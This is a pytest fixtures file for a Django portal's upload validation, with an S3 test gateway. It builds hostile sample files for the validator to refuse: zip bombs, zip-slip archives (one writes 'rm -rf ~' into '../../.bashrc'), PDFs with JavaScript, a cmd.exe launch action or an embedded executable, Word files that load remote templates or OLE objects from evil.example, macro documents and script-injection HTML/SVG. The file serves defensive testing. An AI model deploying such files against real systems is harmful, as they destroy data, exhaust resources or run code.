"""Fixtures for notes and attachments: sample files (good and hostile) and a real S3 server.

The S3 server is moto's, in server mode, over real HTTP on 127.0.0.1 (no patched boto calls).
Between the app and moto sits a small gateway that behaves like a real S3 endpoint in two
ways moto does not: it refuses a presigned URL after its X-Amz-Expires, and it can fail
uploads on demand (an outage in the middle of a batch).
"""

import functools
import io
import struct
import threading
import uuid
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from urllib.parse import parse_qs, urlsplit

import boto3
import pytest
from botocore.config import Config
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter

from partner_portal.settings import s3_storage
from tests.factories import PDF, PDF_PAGES, pdf_file

# --- sample files -----------------------------------------------------------------------------


def _zip(entries: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _content_types(*types: tuple[str, str]) -> bytes:
    """An OOXML package's [Content_Types].xml: ("Default", "bin", type) or ("Override", ...)."""
    items = "".join(
        f'<Default Extension="{where}" ContentType="{ct}"/>'
        if kind == "Default"
        else f'<Override PartName="{where}" ContentType="{ct}"/>'
        for kind, where, ct in types
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f"{items}</Types>"
    ).encode()


OOXML_MAIN = "application/vnd.openxmlformats-officedocument.{}.main+xml"
MACRO_MAIN = "application/vnd.ms-{}.macroEnabled.main+xml"
VBA_PROJECT = ("Default", "bin", "application/vnd.ms-office.vbaProject")


def _ooxml(folder: str, main: str, *, main_type: str = "", parts=None, types=()) -> bytes:
    """A minimal Office package: content types, relationships, the main part, `parts`."""
    kind = {"word": "wordprocessingml.document", "xl": "spreadsheetml.sheet"}.get(
        folder, "presentationml.presentation"
    )
    main_type = main_type or OOXML_MAIN.format(kind)
    return _zip(
        {
            "[Content_Types].xml": _content_types(
                ("Override", f"/{folder}/{main}", main_type), *types
            ),
            "_rels/.rels": b"<Relationships/>",
            f"{folder}/{main}": b"<x/>",
            **(parts or {}),
        }
    )


def _raw_zip(members, *, flags: int = 0) -> bytes:
    """A ZIP written field by field from (name, compressed bytes, size, crc) deflated members,
    so a test can declare sizes it never holds in memory."""
    out, directory = io.BytesIO(), b""
    for name, data, size, crc in members:
        raw = name.encode()
        fields = struct.pack("<HHHHHIIIHH", 20, flags, 8, 0, 0, crc, len(data), size, len(raw), 0)
        directory += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHII", 0, 0, 0, 0, out.tell())
            + raw
        )
        out.write(b"PK\x03\x04" + fields + raw + data)
    offset = out.tell()
    out.write(directory)
    count = len(members)
    out.write(
        b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), offset, 0)
    )
    return out.getvalue()


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return squeezer.compress(data) + squeezer.flush(), len(data), zlib.crc32(data)


@functools.cache
def _deflated_zeros(mib: int) -> tuple[bytes, int, int]:
    """`mib` MiB of zeros, raw-deflated without ever being held: one MiB is compressed once and
    its bytes repeated (after a full flush each repeat stands alone), about 1 KB per MiB.
    Returns (compressed, size, crc)."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = squeezer.compress(bytes(1 << 20)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    crc, zeros = 0, bytes(1 << 20)
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    return piece * mib + squeezer.flush(), mib << 20, crc


def _zip_bomb() -> bytes:
    """1 GiB of zeros in a ZIP of about 1 MB."""
    return _raw_zip([("zeros.bin", *_deflated_zeros(1024))])


def _nested_zip_bomb() -> bytes:
    """A ZIP holding a ZIP that unpacks to 4 GiB (four entries of 1 GiB): about 4 MB."""
    inner = _raw_zip([(f"part{n}.bin", *_deflated_zeros(1024)) for n in range(4)])
    return _zip({"inner.zip": inner}, method=zipfile.ZIP_STORED)


def _macro_docm_with_a_big_directory() -> bytes:
    """A macro-enabled Word document whose ZIP directory is over 1 MB (long part names)."""
    padding = {f"word/media/{'x' * 600}{n}.bin": b"." for n in range(1800)}
    return _ooxml(
        "word",
        "document.xml",
        main_type=MACRO_MAIN.format("word.document"),
        types=[VBA_PROJECT],
        parts={"word/vbaProject.bin": b"\x00vba", **padding},
    )


def _nested(data: bytes, depth: int) -> bytes:
    for level in range(depth):
        data = _zip({f"level{level}.zip": data})
    return data


def _image(fmt: str, size=(64, 48), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (200, 30, 30) if mode == "RGB" else None).save(out, fmt)
    return out.getvalue()


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims width x height pixels with almost no data: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _ole(streams: dict[str, bytes]) -> bytes:
    """A real OLE compound file (CFB version 3) holding `streams` ("Macros/VBA/dir": data).

    Each stream is padded to 4,096 bytes so it lives in regular sectors (no mini stream), and
    each storage lists its children as one chain of right siblings: small, but what olefile
    (and Office) read.
    """
    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    entries = [{"name": "Root Entry", "type": 5, "kids": []}]
    where = {(): 0}
    for path, data in streams.items():
        parts = tuple(path.split("/"))
        for depth in range(1, len(parts) + 1):
            if parts[:depth] not in where:
                where[parts[:depth]] = len(entries)
                leaf = depth == len(parts)
                entries.append({"name": parts[depth - 1], "type": 2 if leaf else 1, "kids": []})
                entries[where[parts[: depth - 1]]]["kids"].append(len(entries) - 1)
        entries[where[parts]]["data"] = data.ljust(-(-max(len(data), 4096) // 512) * 512, b"\0")
    fat = [fat_sector]

    def chain(sectors):
        start = len(fat)
        fat.extend([*range(start + 1, start + sectors), end])
        return start

    directory_start = chain(-(-len(entries) // 4))
    body = b""
    for entry in entries:
        if "data" in entry:
            entry["start"] = chain(len(entry["data"]) // 512)
            body += entry["data"]
    assert len(fat) <= 128, "one FAT sector only"
    siblings = {}
    for entry in entries:
        for this, following in zip(entry["kids"], [*entry["kids"][1:], none], strict=False):
            siblings[this] = following
    directory = b""
    for number, entry in enumerate(entries):
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        data = entry.get("data", b"")
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            entry["type"],
            1,  # black
            none,
            siblings.get(number, none),
            entry["kids"][0] if entry["kids"] else none,
            b"",
            0,
            0,
            0,
            entry.get("start", end if entry["type"] == 5 else 0),
            len(data),
        )
    unused = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, none, none, none, b"", 0, 0, 0, 0, 0)
    directory += unused * (-len(entries) % 4)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        OLE,
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"",
        0,
        1,
        directory_start,
        0,
        4096,
        end,
        0,
        end,
        0,
    ) + struct.pack("<109I", 0, *[free] * 108)
    return header + struct.pack("<128I", *fat, *[free] * (128 - len(fat))) + directory + body


def _biff(sheet_types) -> bytes:
    """An Excel workbook stream's global records: BOF, one BOUNDSHEET per sheet type
    (0 worksheet, 1 Excel 4.0 macro sheet), EOF."""

    def record(kind, data):
        return struct.pack("<HH", kind, len(data)) + data

    sheets = b"".join(
        record(0x0085, struct.pack("<IBBBB", 0, 0, dt, 6, 0) + b"Sheet" + str(n).encode())
        for n, dt in enumerate(sheet_types)
    )
    return (
        record(0x0809, struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0)) + sheets + record(0x0A, b"")
    )


def _pdf_with(catalog_extra: str = "", page_extra: str = "", *more: str) -> bytes:
    """A one-page PDF whose catalog and page carry `*_extra`; `more` are objects 4, 5, ..."""
    return pdf_file(
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>",
        PDF_PAGES,
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page_extra} >>",
        *more,
    )


def _encrypted(pdf: bytes, *, user: str, owner: str = "owner-secret") -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf))
    writer.encrypt(user_password=user, owner_password=owner, algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS_ACTION = "<< /S /JavaScript /JS (app.alert\\(1\\);) >>"
PDF_JS_ON_OPEN = _pdf_with("/OpenAction 4 0 R", "", JS_ACTION)


def _relationships(*relations: tuple[str, str, str]) -> bytes:
    """A .rels part: (type's last part, target, target mode)."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relations, 1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{items}</Relationships>"
    ).encode()


VBA = {"VBA/dir": b"\x01vba directory", "VBA/_VBA_PROJECT": b"\xcc\x61", "PROJECT": b"ID="}
WORD = {"WordDocument": "A proposal.".encode("utf-16-le"), "1Table": b"\x00"}

SAMPLES = {
    "pdf": PDF,
    # Active content in PDFs, each built from its objects.
    "pdf_js_on_open": PDF_JS_ON_OPEN,
    "pdf_js_names": _pdf_with(
        "/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", "", JS_ACTION
    ),
    # The name written with an escape (#61 is "a"): the parser reads /JavaScript.
    "pdf_js_escaped_name": _pdf_with("/Names 4 0 R", "", "<< /J#61vaScript << /Names [] >> >>"),
    "pdf_js_owner_password": _encrypted(PDF_JS_ON_OPEN, user=""),
    "pdf_launch": _pdf_with(
        "",
        "/Annots [4 0 R]",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (cmd.exe) >> >>",
    ),
    "pdf_embedded_file": _pdf_with(
        "/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>",
        "",
        "<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "pdf_open_uri": _pdf_with("/OpenAction << /S /URI /URI (https://tracker.example/) >>"),
    "pdf_open_goto": _pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "pdf_open_page": _pdf_with("/OpenAction [3 0 R /Fit]"),
    "pdf_link": _pdf_with(
        "",
        "/Annots [4 0 R]",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://vng.vn/) >> >>",
    ),
    "pdf_password": _encrypted(PDF, user="user-secret"),
    "pdf_truncated": PDF[: len(PDF) // 2],
    "zip_of_pdf_js": _zip({"offer/quote.pdf": PDF_JS_ON_OPEN}),
    # Remote template injection: Word fetches the template (and runs its macros) on opening.
    "docx_remote_template": _ooxml(
        "word",
        "document.xml",
        parts={
            "word/_rels/settings.xml.rels": _relationships(
                ("attachedTemplate", "https://evil.example/t.dotm", "External")
            )
        },
    ),
    "docx_remote_ole": _ooxml(
        "word",
        "document.xml",
        parts={
            "word/_rels/document.xml.rels": _relationships(
                ("styles", "styles.xml", ""),
                ("oleObject", "http://evil.example/o.sct", "External"),
            )
        },
    ),
    "docx_links": _ooxml(
        "word",
        "document.xml",
        parts={
            "word/_rels/document.xml.rels": _relationships(
                ("hyperlink", "https://vng.vn/", "External"),
                ("attachedTemplate", "file:///C:/Templates/Normal.dotm", ""),
            )
        },
    ),
    "zip_slip_up": _zip({"docs/readme.txt": b"hi", "../../.bashrc": b"rm -rf ~"}),
    "zip_slip_up_backslash": _zip({"..\\..\\Startup\\run.bat": b"x"}),
    "zip_slip_absolute": _zip({"/etc/cron.d/job": b"x"}),
    "zip_slip_drive": _zip({"C:\\Windows\\win.ini": b"x"}),
    "zip_dots_in_names": _zip({"v1..2/notes..txt": b"x", "...": b"x"}),
    "xlsx": _ooxml("xl", "workbook.xml"),
    "docx": _ooxml("word", "document.xml"),
    "pptx": _ooxml("ppt", "presentation.xml"),
    "xlsm": _ooxml(
        "xl",
        "workbook.xml",
        main_type=MACRO_MAIN.format("excel.sheet"),
        types=[VBA_PROJECT],
        parts={"xl/vbaProject.bin": b"\x00macro"},
    ),
    # Only the part is there (no content type says so): still macros.
    "xlsx_vba_part": _ooxml("xl", "workbook.xml", parts={"xl/vbaProject.bin": b"\x00macro"}),
    # Text that talks about macros is not macros.
    "docx_says_macros": _ooxml(
        "word",
        "document.xml",
        parts={"word/notes.xml": b"<t>Macros: none. vbaProject.bin _VBA_PROJECT</t>"},
    ),
    "docx_embedded_macros": _ooxml(
        "word",
        "document.xml",
        parts={
            "word/embeddings/oleObject1.bin": _ole(
                {**WORD, **{f"Macros/{k}": v for k, v in VBA.items()}}
            )
        },
    ),
    "zip": _zip({"readme.txt": b"hello"}),
    "zip_of_docm": _zip(
        {
            "send/offer.docm": _ooxml(
                "word", "document.xml", main_type=MACRO_MAIN.format("word.document")
            )
        }
    ),
    "zip_nested_ok": _nested(_zip({"readme.txt": b"hello"}), 2),
    "zip_nested_deep": _nested(_zip({"readme.txt": b"hello"}), 4),
    "zip_encrypted": _raw_zip([("secret.txt", *_deflated(b"x"))], flags=1),
    # An Office package whose parts are encrypted: nothing in it can be read.
    "docx_encrypted": _raw_zip(
        [
            ("[Content_Types].xml", *_deflated(_content_types())),
            ("word/document.xml", *_deflated(b"<x/>")),
        ],
        flags=1,
    ),
    # OLE compound files (Office 97-2003): the directory's streams tell them apart.
    "xls": _ole({"Workbook": _biff([0x00]), "SummaryInformation": b"\x00"}),
    "xls_xlm_macro": _ole({"Workbook": _biff([0x00, 0x01])}),  # a worksheet, a macro sheet
    "doc": _ole(WORD),
    "doc_says_macros": _ole(
        {"WordDocument": "Macros: this offer has none. _VBA_PROJECT".encode("utf-16-le")}
    ),
    "doc_macro": _ole({**WORD, **{f"Macros/{k}": v for k, v in VBA.items()}}),
    "xls_macro": _ole(
        {"Workbook": b"\x09\x08", **{f"_VBA_PROJECT_CUR/{k}": v for k, v in VBA.items()}}
    ),
    "msi": _ole({"\u4840\u3b3f\u4577": b"\x00"}),
    "fake_doc": OLE + b"\x00" * 512 + "WordDocument".encode("utf-16-le") + b"\x00" * 512,
    "csv": "Sản phẩm,Số lượng\nvServer,3\n".encode(),
    "txt": b"Plain notes about the deal.\n",
    "png": _image("PNG"),
    "png_alpha": _image("PNG", mode="RGBA"),
    "jpeg": _image("JPEG", size=(800, 600)),
    "html": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "html_late": b"Name,Value\n" + b"<script>alert(1)</script>\n",
    "html_after_8k": "Sản phẩm,Số lượng\n".encode() * 1000 + b"<script>alert(1)</script>\n",
    "whitespace": b" \t\r\n" * 3000,
    "exe": b"MZ\x90\x00" + b"\x00" * 200,
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "bomb": _png_header_only(50_000, 50_000),
    "zip_bomb": _zip_bomb(),
    "zip_bomb_nested": _nested_zip_bomb(),
    # Declares 1 MiB, inflates to 1 GiB: the sizes lie.
    "zip_lying": _raw_zip([("small.bin", _deflated_zeros(1024)[0], 1 << 20, 0)]),
    "zip_dense": _raw_zip([("zeros.bin", *_deflated_zeros(64))]),  # 64 MiB, 1000:1
    "docm_big_directory": _macro_docm_with_a_big_directory(),
}


# Hostile files, each refused with its reason: (name, sample, error code, message start).
HOSTILE = [
    ("bomb.zip", "zip_bomb", "archive_too_large", "bomb.zip: the archive unpacks to more than"),
    ("nested.zip", "zip_bomb_nested", "archive_too_large", "nested.zip: the archive unpacks to"),
    ("dense.zip", "zip_dense", "archive_ratio", "dense.zip: the archive is compressed more"),
    ("small.zip", "zip_lying", "bad_zip", "small.zip: the ZIP file is damaged."),
    ("deep.zip", "zip_nested_deep", "archive_depth", "deep.zip: the archive holds archives nested"),
    ("secret.zip", "zip_encrypted", "archive_encrypted", "secret.zip: the archive is password"),
    ("offer.docx", "docx_encrypted", "archive_encrypted", "offer.docx: the archive is password"),
    ("offer.docm", "docm_big_directory", "macros", "offer.docm: documents with macros are not"),
    ("budget.xlsx", "xlsm", "macros", "budget.xlsx: documents with macros"),
    ("budget.xlsx", "xlsx_vba_part", "macros", "budget.xlsx: documents with macros"),
    ("offer.docx", "docx_embedded_macros", "macros", "offer.docx: documents with macros"),
    ("bundle.zip", "zip_of_docm", "macros", "bundle.zip: documents with macros"),
    ("invoice.doc", "doc_macro", "macros", "invoice.doc: documents with macros"),
    ("sheet.xls", "xls_macro", "macros", "sheet.xls: documents with macros"),
    ("sheet.xls", "xls_xlm_macro", "macros", "sheet.xls: documents with macros"),
    ("notes.txt", "html_after_8k", "bad_type", "notes.txt: this type of file is not accepted"),
    ("blank.txt", "whitespace", "empty", "blank.txt: the file is empty."),
    (
        "quote.pdf",
        "pdf_js_on_open",
        "active_content",
        "quote.pdf: the PDF runs an action when it opens (/OpenAction /JavaScript)",
    ),
    ("quote.pdf", "pdf_js_names", "active_content", "quote.pdf: the PDF holds JavaScript"),
    ("quote.pdf", "pdf_js_escaped_name", "active_content", "quote.pdf: the PDF holds JavaScript"),
    ("quote.pdf", "pdf_js_owner_password", "active_content", "quote.pdf: the PDF runs an action"),
    ("quote.pdf", "pdf_launch", "active_content", "quote.pdf: the PDF can launch a program"),
    ("quote.pdf", "pdf_embedded_file", "active_content", "quote.pdf: the PDF holds an embedded"),
    ("quote.pdf", "pdf_open_uri", "active_content", "quote.pdf: the PDF runs an action when it"),
    ("quote.pdf", "pdf_password", "pdf_encrypted", "quote.pdf: the PDF is password-protected"),
    ("quote.pdf", "pdf_truncated", "bad_pdf", "quote.pdf: the PDF is damaged or incomplete"),
    ("offer.zip", "zip_of_pdf_js", "active_content", "offer.zip: the PDF runs an action when"),
    ("offer.docx", "docx_remote_template", "active_content", "offer.docx: the document loads a"),
    ("offer.docx", "docx_remote_ole", "active_content", "offer.docx: the document loads an OLE"),
    ("files.zip", "zip_slip_up", "archive_path", "files.zip: the archive holds a file named “../"),
    ("files.zip", "zip_slip_up_backslash", "archive_path", "files.zip: the archive holds a file"),
    ("files.zip", "zip_slip_absolute", "archive_path", "files.zip: the archive holds a file"),
    ("files.zip", "zip_slip_drive", "archive_path", "files.zip: the archive holds a file named"),
]


def upload(name: str, sample: str | bytes, content_type="application/octet-stream"):
    """A file as Django hands it to a view (the browser's content type is not trusted)."""
    data = SAMPLES[sample] if isinstance(sample, str) else sample
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.fixture
def files():
    """Builders for uploads: files.upload("bom.xlsx", "xlsx"), files.data["png"]."""
    return SimpleNamespace(
        upload=upload, data=SAMPLES, image=_image, bomb=_png_header_only, zip=_zip
    )


@pytest.fixture
def media_files(settings):
    """Every file under MEDIA_ROOT (the local storage), as sorted relative paths."""
    from pathlib import Path

    def listing():
        root = Path(settings.MEDIA_ROOT)
        if not root.exists():
            return []
        return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())

    return listing


# --- S3 ---------------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def moto_endpoint():
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    yield f"http://{host}:{port}"
    server.stop()


class _GatewayHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):  # keep test output quiet
        pass

    def _relay(self):
        gateway = self.server.gateway
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if gateway.is_down():
            return self._error(*UNAVAILABLE)
        if self._is_object_put() and gateway.should_fail_put():
            return self._error(*gateway.failure)
        if self._is_expired():
            return self._error(403, "AccessDenied", "Request has expired")
        upstream = HTTPConnection(gateway.upstream_host, gateway.upstream_port, timeout=30)
        headers = {k: v for k, v in self.headers.items() if k.lower() != "connection"}
        upstream.request(self.command, self.path, body=body or None, headers=headers)
        reply = upstream.getresponse()
        data = reply.read()
        upstream.close()
        self.send_response(reply.status)
        for key, value in reply.getheaders():
            if key.lower() not in {"connection", "transfer-encoding", "content-length", "date"}:
                self.send_header(key, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    do_GET = do_PUT = do_POST = do_DELETE = do_HEAD = _relay

    def _is_object_put(self):
        # PUT /<bucket>/<key>: an object upload (not the bucket's creation).
        return self.command == "PUT" and urlsplit(self.path).path.strip("/").count("/") >= 1

    def _is_expired(self):
        query = parse_qs(urlsplit(self.path).query)
        if "X-Amz-Expires" not in query:
            return False
        signed = datetime.strptime(query["X-Amz-Date"][0], "%Y%m%dT%H%M%SZ").replace(tzinfo=UTC)
        expires = signed + timedelta(seconds=int(query["X-Amz-Expires"][0]))
        return datetime.now(UTC) > expires

    def _error(self, status, code, message):
        data = (
            f'<?xml version="1.0" encoding="UTF-8"?><Error><Code>{code}</Code>'
            f"<Message>{message}</Message></Error>"
        ).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/xml")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


INTERNAL_ERROR = (500, "InternalError", "We encountered an internal error.")
ACCESS_DENIED = (403, "AccessDenied", "Access Denied")
UNAVAILABLE = (503, "ServiceUnavailable", "Service is unavailable")


class S3Gateway:
    """In front of moto: `fail_puts_after = n` lets n object uploads through, fails the rest;
    `down_after_puts = n` lets n object uploads through, then the whole endpoint is down
    (every request, deletes included, answers 503) until `reset()` brings it back."""

    def __init__(self, upstream: str):
        parts = urlsplit(upstream)
        self.upstream_host, self.upstream_port = parts.hostname, parts.port
        self.fail_puts_after = None
        self.down_after_puts = None
        self.failure = INTERNAL_ERROR
        self.puts = 0
        self._lock = threading.Lock()
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _GatewayHandler)
        self.server.daemon_threads = True
        self.server.gateway = self
        self.endpoint = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        ).start()

    def should_fail_put(self) -> bool:
        with self._lock:
            self.puts += 1
            return self.fail_puts_after is not None and self.puts > self.fail_puts_after

    def is_down(self) -> bool:
        with self._lock:
            return self.down_after_puts is not None and self.puts >= self.down_after_puts

    def reset(self):
        self.fail_puts_after = None
        self.down_after_puts = None
        self.failure = INTERNAL_ERROR
        self.puts = 0

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def s3_gateway(moto_endpoint):
    gateway = S3Gateway(moto_endpoint)
    yield gateway
    gateway.stop()


def _client(endpoint):
    return boto3.client(
        "s3",
        endpoint_url=endpoint,
        region_name="us-east-1",
        aws_access_key_id="testing",
        aws_secret_access_key="testing",
        config=Config(s3={"addressing_style": "path"}, signature_version="s3v4"),
    )


@pytest.fixture(scope="session")
def s3_client(moto_endpoint):
    """One boto3 client to look into the S3 server: building one per test (botocore loads
    the S3 model each time) cost more CPU than most of the S3 tests themselves."""
    return _client(moto_endpoint)


@pytest.fixture
def s3(settings, s3_gateway, s3_client):
    """Django's default storage on a fresh, private bucket of the S3 server (through the
    gateway), built by the same function production settings use. Yields a helper to look
    into the bucket directly."""
    bucket = f"portal-{uuid.uuid4().hex[:12]}"
    client = s3_client
    client.create_bucket(Bucket=bucket)
    s3_gateway.reset()

    def use(*, endpoint=s3_gateway.endpoint, bucket_name=bucket, expire=300, max_attempts=1):
        settings.STORAGES = {
            **settings.STORAGES,
            "default": s3_storage(
                bucket=bucket_name,
                endpoint_url=endpoint,
                region="us-east-1",
                access_key="testing",
                secret_key="testing",
                addressing_style="path",
                expire=expire,
                max_attempts=max_attempts,
            ),
        }

    def keys():
        listing = client.list_objects_v2(Bucket=bucket)
        return sorted(item["Key"] for item in listing.get("Contents", []))

    def head(key):
        return client.head_object(Bucket=bucket, Key=key)

    use()
    yield SimpleNamespace(
        bucket=bucket, client=client, keys=keys, head=head, use=use, gateway=s3_gateway
    )
    s3_gateway.reset()
